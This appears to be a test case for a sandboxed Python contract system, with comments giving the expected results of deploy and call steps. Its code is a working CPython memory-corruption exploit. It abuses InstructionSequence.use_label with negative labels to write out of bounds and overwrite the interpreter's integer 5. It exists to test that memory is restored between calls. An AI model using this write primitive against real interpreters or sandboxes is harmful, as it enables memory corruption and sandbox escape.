# attack: the digit of the one int 5 of the interpreter is overwritten, by an out-of-bounds write of CPython:
#   InstructionSequence.use_label takes any negative label
# fence: the whole memory is restored before the next call (SEMANTICS 6); in this call the contract hurts itself
# screened: S105
# step: deploy attack [] => success [6, '6', 'a7']
# step: call attack ["look"] => success [5, '5', 'a7']
def named(name):
    return next(c for c in object.__subclasses__() if c.__name__ == name)


class Pen:
    def __init__(self, value):
        self.sequence = named("InstructionSequence")()
        block = bytes(20)
        self.at = id(block)
        block = None
        self.sequence.use_label(0)
        for _ in range(value):
            self.sequence.addop(1, 0, 0, 0, 0, 0)

    def write(self, address):
        offset = (address - self.at) >> 2
        self.sequence.use_label(offset - 2**30 if offset >= 0 else offset)


if not args:
    Pen(6).write(id(5) + 12)
five = int("5")
finish([five, str(five), "a" + str(7)])
